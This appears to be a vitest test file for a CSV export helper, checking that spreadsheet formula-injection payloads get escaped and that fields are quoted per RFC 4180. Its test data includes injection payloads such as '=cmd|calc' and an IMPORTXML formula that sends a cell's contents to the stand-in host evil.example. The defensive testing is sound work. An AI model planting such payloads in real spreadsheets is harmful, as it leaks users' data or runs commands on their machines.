import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { CSV_EOL, csvCell, csvLine, neutraliseFormula } from './csv'

/** How a spreadsheet reads the line back: RFC 4180 parsing of one record. */
const parseLine = (line: string) => Papa.parse<string[]>(line, { newline: '\r\n' }).data[0]!

describe('neutraliseFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+31 20 555 0100', "'+31 20 555 0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=cmd|calc', "'\t=cmd|calc"],
    ['\r=cmd|calc', "'\r=cmd|calc"],
    ['  =1+1', "'  =1+1"],
    ['\u00a0@risk', "'\u00a0@risk"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['=HYPERLINK("http://evil.example","click")', '\'=HYPERLINK("http://evil.example","click")'],
  ])('escapes %j, which a spreadsheet would evaluate', (payload, escaped) => {
    expect(neutraliseFormula(payload)).toBe(escaped)
  })

  it.each(['Acme Corp', 'a=b', 'x-ray scanners', 'support@acme.example', "'quoted", '', '1+1'])(
    'leaves %j alone, since no spreadsheet evaluates it',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text)
    },
  )
})

describe('csvCell', () => {
  it('writes numbers as numbers, negative ones included, and never escapes them', () => {
    expect(csvCell(-4)).toBe('-4')
    expect(csvCell(65.1)).toBe('65.1')
    expect(csvCell(12_400_000)).toBe('12400000')
    expect(csvCell(Number.NaN)).toBe('')
  })

  it('writes booleans as yes/no and missing values as empty fields', () => {
    expect(csvCell(true)).toBe('yes')
    expect(csvCell(false)).toBe('no')
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
  })

  it('quotes fields with commas, quotes or line breaks and doubles the quotes inside (RFC 4180)', () => {
    expect(csvCell('Smith, Jones & Co')).toBe('"Smith, Jones & Co"')
    expect(csvCell('The "Big" Vendor')).toBe('"The ""Big"" Vendor"')
    expect(csvCell('line one\nline two')).toBe('"line one\nline two"')
    expect(csvCell('line one\r\nline two')).toBe('"line one\r\nline two"')
  })

  it('keeps non-Latin names byte for byte', () => {
    for (const name of [
      'Москва Данные ООО',
      '東京データ株式会社',
      'Zürich Rückversicherung',
      'شركة البيانات',
      '🚀 Rocket',
    ])
      expect(csvCell(name)).toBe(name)
  })

  it('neutralises a formula and still quotes it when it holds quotes or commas', () => {
    expect(csvCell('=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")')).toBe(
      '"\'=IMPORTXML(CONCAT(""http://evil.example/?"", A1), ""//a"")"',
    )
  })
})

describe('csvLine', () => {
  it('ends each record with CRLF and reads back as the same fields, formulas escaped', () => {
    const cells = ['ven-1', 'Acme, "the" vendor', '=1+1', 'a\nb', 'Москва', 65.1, -4, true, null]
    const line = csvLine(cells)
    expect(line.endsWith(CSV_EOL)).toBe(true)
    expect(parseLine(line)).toEqual([
      'ven-1',
      'Acme, "the" vendor',
      "'=1+1",
      'a\nb',
      'Москва',
      '65.1',
      '-4',
      'yes',
      '',
    ])
  })

  it('fails the round trip if a payload were left unescaped (the check can fail)', () => {
    const parsed = parseLine(csvLine(['@cmd']))
    expect(parsed[0]!.startsWith('@')).toBe(false)
  })
})
